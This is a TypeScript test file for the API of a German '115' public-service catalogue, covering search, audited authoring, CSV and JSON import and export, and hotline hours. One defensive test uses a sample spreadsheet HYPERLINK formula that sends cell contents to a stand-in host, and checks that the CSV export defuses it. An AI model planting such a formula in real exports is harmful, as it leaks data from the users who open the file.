// The 115 catalogue over HTTP on a real database: public reading and search, authoring with audit and versions,
// import (per record and all-or-nothing) with its error report, export round trip.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { seedDemoServices } from '../../demo/seed-demo-services.ts';
import { demoServices } from '../../demo/demo-services.ts';
import { seedTestHub, type SeededHub } from '../../testing/fixtures.ts';
import { createTestHub } from '../../testing/test-context.ts';

const newService = {
  ...demoServices.find((s) => s.id === 'hund-anmelden')!,
  id: 'katzen-registrierung',
  leikaKey: '99000000009901',
  name: 'Katze registrieren',
  shortDescription: 'Eine Katze freiwillig im Haustierregister eintragen lassen.',
  keywords: ['Katze', 'Haustier', 'Stubentiger'],
};

describe('service catalogue', () => {
  let hub: SeededHub;
  beforeEach(async () => {
    hub = await seedTestHub(await createTestHub());
    await seedDemoServices(hub.ctx);
  });
  afterEach(() => hub.close());

  const get = (url: string, headers: Record<string, string> = {}) => hub.app.inject({ url, headers });
  const send = (method: 'POST' | 'PUT' | 'DELETE' | 'PATCH', url: string, payload: unknown, role = 'zone') =>
    hub.app.inject({
      method,
      url,
      payload: payload as object,
      headers: hub.staffHeaders[role as 'zone'],
    });
  const auditActions = async (entityId: string) =>
    (
      await hub.ctx.db
        .selectFrom('audit_log')
        .select('action')
        .where('entity_id', '=', entityId)
        .orderBy('seq')
        .execute()
    ).map((r) => r.action);

  it('lists, shows and searches the catalogue without a login', async () => {
    const list = await get('/api/v1/services');
    expect(list.statusCode).toBe(200);
    expect(list.json().items).toHaveLength(demoServices.length);
    expect(list.json().items[0].id).toBe('personalausweis-beantragen');

    const one = await get('/api/v1/services/personalausweis-beantragen');
    expect(one.json()).toMatchObject({
      leikaKey: '99000000000101',
      authorityLevel: 'town',
      dokboxPickup: true,
      dokboxInfoUrl: '/dokbox',
      version: 1,
    });
    expect((await get('/api/v1/services/sperrmuell')).json().dokboxInfoUrl).toBeNull();
    const missing = await get('/api/v1/services/gibt-es-nicht');
    expect(missing.statusCode).toBe(404);
    expect(missing.json().title).toContain('Leistung');

    const search = async (q: string) =>
      (await get(`/api/v1/services/search?q=${encodeURIComponent(q)}`))
        .json()
        .hits.map((h: { id: string }) => h.id);
    expect((await search('perso verloren')).slice(0, 2)).toContain('ausweis-verlust-melden');
    expect((await search('führerschein umschreiben'))[0]).toBe('fuehrerschein-umtausch');
    expect((await search('Fuehrerschein umschreiben'))[0]).toBe('fuehrerschein-umtausch');
    expect((await search('ummelden'))[0]).toBe('wohnsitz-anmelden');
    expect((await search('Knöllchen'))[0]).toBe('verwarnungsgeld-parken');
    expect((await search('sperrmül'))[0]).toBe('sperrmuell');
    expect(await search('')).toEqual([]);

    const suggest = await get('/api/v1/services/suggest?q=hund');
    expect(suggest.json().suggestions[0]).toEqual({
      id: 'hund-anmelden',
      name: 'Hund anmelden (Hundesteuer)',
    });

    const catalogue = await get('/api/v1/services/catalogue');
    expect(catalogue.json().items).toHaveLength(demoServices.length);
    expect(catalogue.json().revision).toEqual(expect.any(String));
  });

  it('lets zone staff add, change and remove a service, audited, and search sees it at once', async () => {
    expect((await send('POST', '/api/v1/services', newService, 'clerk')).statusCode).toBe(403);
    expect(
      (await hub.app.inject({ method: 'POST', url: '/api/v1/services', payload: newService })).statusCode,
    ).toBe(401);
    const revisionBefore = (await get('/api/v1/services/catalogue')).json().revision;

    const created = await send('POST', '/api/v1/services', newService);
    expect(created.statusCode).toBe(201);
    expect(created.json()).toMatchObject({ id: 'katzen-registrierung', version: 1 });
    expect((await send('POST', '/api/v1/services', newService)).statusCode).toBe(409);
    expect((await get('/api/v1/services/search?q=stubentiger')).json().hits[0].id).toBe(
      'katzen-registrierung',
    );
    expect((await get('/api/v1/services/catalogue')).json().revision).not.toBe(revisionBefore);

    const changed = await send('PUT', '/api/v1/services/katzen-registrierung', {
      service: { ...newService, name: 'Katze im Haustierregister eintragen' },
      version: 1,
    });
    expect(changed.statusCode).toBe(200);
    expect(changed.json()).toMatchObject({ name: 'Katze im Haustierregister eintragen', version: 2 });
    const stale = await send('PUT', '/api/v1/services/katzen-registrierung', {
      service: newService,
      version: 1,
    });
    expect(stale.statusCode).toBe(409);
    expect(stale.json().code).toBe('service_version_conflict');

    const removed = await send('DELETE', '/api/v1/services/katzen-registrierung', undefined, 'admin');
    expect(removed.statusCode).toBe(204);
    expect((await get('/api/v1/services/katzen-registrierung')).statusCode).toBe(404);
    expect((await get('/api/v1/services/search?q=stubentiger')).json().hits).toEqual([]);
    expect(await auditActions('katzen-registrierung')).toEqual([
      'service.created',
      'service.updated',
      'service.deleted',
    ]);
  });

  it('refuses an invalid service with the field and a German reason', async () => {
    const bad = await send('POST', '/api/v1/services', { ...newService, lastReviewedOn: '2026-02-30' });
    expect(bad.statusCode).toBe(422);
    expect(bad.json().code).toBe('service_invalid');
    expect(bad.json().title).toContain('Zuletzt geprüft');
    const badKey = await send('POST', '/api/v1/services', { ...newService, leikaKey: '123' });
    expect(badKey.statusCode).toBe(400);
    const reserved = await send('POST', '/api/v1/services', { ...newService, id: 'search' });
    expect(reserved.statusCode).toBe(422);
    expect(await auditActions('katzen-registrierung')).toEqual([]);
  });

  it('imports per record: good records are written, bad ones reported by number, field and reason', async () => {
    const before = (await get('/api/v1/services/wohngeld')).json();
    const records = [
      newService,
      { ...demoServices.find((s) => s.id === 'wohngeld')!, leikaKey: '1234567890123', name: 'Kaputt' },
      { ...newService, id: 'zweite-katze', popularity: 0, farbe: 'grau' },
      { ...demoServices.find((s) => s.id === 'sperrmuell')!, fees: 'Neue Gebührenangabe' },
    ];
    const response = await send('POST', '/api/v1/services/import', {
      format: 'json',
      content: JSON.stringify(records),
    });
    expect(response.statusCode).toBe(200);
    const report = response.json();
    expect(report).toMatchObject({
      mode: 'per_record',
      total: 4,
      created: 1,
      updated: 1,
      failed: 2,
      rolledBack: false,
    });
    expect(report.errors).toEqual(
      expect.arrayContaining([
        {
          record: 2,
          field: 'leikaKey',
          code: 'leika_key_invalid',
          message: 'LeiKa-Schlüssel: Der LeiKa-Schlüssel muss aus genau 14 Ziffern bestehen.',
        },
        expect.objectContaining({ record: 3, field: 'popularity', code: 'popularity_invalid' }),
        expect.objectContaining({ record: 3, field: 'farbe', code: 'unknown_field' }),
      ]),
    );
    // The bad record left the existing service untouched; the good ones are in.
    expect((await get('/api/v1/services/wohngeld')).json()).toEqual(before);
    expect((await get('/api/v1/services/katzen-registrierung')).statusCode).toBe(200);
    expect((await get('/api/v1/services/sperrmuell')).json()).toMatchObject({
      fees: 'Neue Gebührenangabe',
      version: 2,
    });
    expect(await auditActions('zweite-katze')).toEqual([]);
  });

  it('imports all or nothing: one bad record and nothing is written', async () => {
    const before = (await get('/api/v1/services/catalogue')).json();
    const records = [newService, { ...newService, id: 'katze-2', leikaKey: 'abc' }];
    const report = (
      await send('POST', '/api/v1/services/import', {
        format: 'json',
        mode: 'all_or_nothing',
        content: JSON.stringify({ services: records }),
      })
    ).json();
    expect(report).toMatchObject({
      mode: 'all_or_nothing',
      total: 2,
      created: 0,
      updated: 0,
      failed: 1,
      rolledBack: true,
    });
    expect(report.errors[0]).toMatchObject({ record: 2, field: 'leikaKey' });
    expect((await get('/api/v1/services/catalogue')).json()).toEqual(before);

    const good = (
      await send('POST', '/api/v1/services/import', {
        format: 'json',
        mode: 'all_or_nothing',
        content: JSON.stringify(records.slice(0, 1)),
      })
    ).json();
    expect(good).toMatchObject({ created: 1, failed: 0, rolledBack: false, errors: [] });
  });

  it('reports an unreadable file as a whole and writes nothing', async () => {
    const json = (
      await send('POST', '/api/v1/services/import', { format: 'json', content: '[{"id": ' })
    ).json();
    expect(json).toMatchObject({ total: 0, rolledBack: true });
    expect(json.errors[0]).toMatchObject({ record: 0, code: 'file_unreadable' });
    const csv = (
      await send('POST', '/api/v1/services/import', { format: 'csv', content: 'id,farbe\nx,grau\n' })
    ).json();
    expect(csv.errors[0]).toMatchObject({ record: 0, code: 'csv_column_unknown' });
    expect(csv.errors[0].message).toContain('„farbe“');
  });

  it('exports CSV and JSON that import back unchanged, and takes edits made in the CSV', async () => {
    const csvExport = await get('/api/v1/services/export?format=csv', hub.staffHeaders.zone);
    expect(csvExport.statusCode).toBe(200);
    expect(csvExport.headers['content-type']).toContain('text/csv');
    expect((await get('/api/v1/services/export?format=csv')).statusCode).toBe(401);
    const edited = csvExport.body.replace('Sperrmüll abholen lassen', 'Sperrmüll abholen lassen (neu)');
    const report = (await send('POST', '/api/v1/services/import', { format: 'csv', content: edited })).json();
    expect(report).toMatchObject({ total: demoServices.length, updated: demoServices.length, failed: 0 });
    const bulky = (await get('/api/v1/services/sperrmuell')).json();
    expect(bulky.name).toBe('Sperrmüll abholen lassen (neu)');
    const original = demoServices.find((s) => s.id === 'sperrmuell')!;
    expect(bulky.locations).toEqual(original.locations);
    expect(bulky.keywords).toEqual(original.keywords);

    const jsonExport = await get('/api/v1/services/export?format=json', hub.staffHeaders.admin);
    const parsed = JSON.parse(jsonExport.body);
    expect(parsed.services).toHaveLength(demoServices.length);
    const again = (
      await send('POST', '/api/v1/services/import', { format: 'json', content: jsonExport.body })
    ).json();
    expect(again).toMatchObject({ updated: demoServices.length, failed: 0 });
  });

  it('defuses formulas in the CSV export and still imports it back unchanged (issue 14)', async () => {
    const jsonExport = JSON.parse(
      (await get('/api/v1/services/export?format=json', hub.staffHeaders.zone)).body,
    );
    const evil = '=HYPERLINK("https://example.invalid/?x="&A1,"Hier klicken")';
    const bulky = jsonExport.services.find((record: { id: string }) => record.id === 'sperrmuell');
    const imported = (
      await send('POST', '/api/v1/services/import', {
        format: 'json',
        content: JSON.stringify([{ ...bulky, name: evil, fees: '+49 7131 0' }]),
      })
    ).json();
    expect(imported).toMatchObject({ failed: 0 });
    const csvExport = (await get('/api/v1/services/export?format=csv', hub.staffHeaders.zone)).body;
    expect(csvExport).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(csvExport).toContain(`"'=HYPERLINK(""https://example.invalid/?x=""&A1,""Hier klicken"")"`);
    expect(csvExport).toContain("'+49 7131 0");
    const again = (
      await send('POST', '/api/v1/services/import', { format: 'csv', content: csvExport })
    ).json();
    expect(again).toMatchObject({ failed: 0 });
    const back = (await get('/api/v1/services/sperrmuell')).json();
    expect(back).toMatchObject({ name: evil, fees: '+49 7131 0' });
  });

  it('reports a bad CSV cell with its record number while the other rows go in', async () => {
    const csvExport = (await get('/api/v1/services/export?format=csv', hub.staffHeaders.zone)).body;
    const heading = csvExport.split('\r\n')[0]!;
    const columns = heading.split(',');
    const row = (values: Record<string, string>) =>
      columns
        .map((c) => values[c] ?? '')
        .map((v) => `"${v.replace(/"/g, '""')}"`)
        .join(',');
    const base = {
      leikaKey: '99000000009902',
      name: 'Testleistung Eins',
      shortDescription: 'Kurz',
      longDescription: 'Lang',
      leichteSprache: 'Leicht',
      fees: 'keine',
      processingTime: 'sofort',
      authorityLevel: 'town',
      authorityName: 'Stadt',
      popularity: '10',
      lastReviewedOn: '2026-11-01',
      keywords: 'eins\nzwei',
    };
    const content = [
      heading,
      row({ ...base, id: 'test-eins' }),
      row({ ...base, id: 'test-zwei', locations: '[{"name": kaputt}]' }),
      row({ ...base, id: 'test-drei', authorityLevel: 'gemeinde', dokboxPickup: 'vielleicht' }),
    ].join('\n');
    const report = (await send('POST', '/api/v1/services/import', { format: 'csv', content })).json();
    expect(report).toMatchObject({ total: 3, created: 1, failed: 2 });
    expect(report.errors).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ record: 2, field: 'locations', code: 'json_invalid' }),
        expect.objectContaining({ record: 3, field: 'authorityLevel', code: 'level_invalid' }),
        expect.objectContaining({ record: 3, field: 'dokboxPickup', code: 'boolean_invalid' }),
      ]),
    );
    expect((await get('/api/v1/services/test-eins')).json().keywords).toEqual(['eins', 'zwei']);
  });

  it('says whether the 115 hotline is open', async () => {
    expect((await get('/api/v1/services/hotline')).json()).toMatchObject({ number: '115', openNow: true });
    hub.clock.set('2026-11-28T10:00:00.000Z');
    expect((await get('/api/v1/services/hotline')).json()).toMatchObject({
      openNow: false,
      nextOpensAt: '2026-11-30T07:00:00.000Z',
    });
  });
});
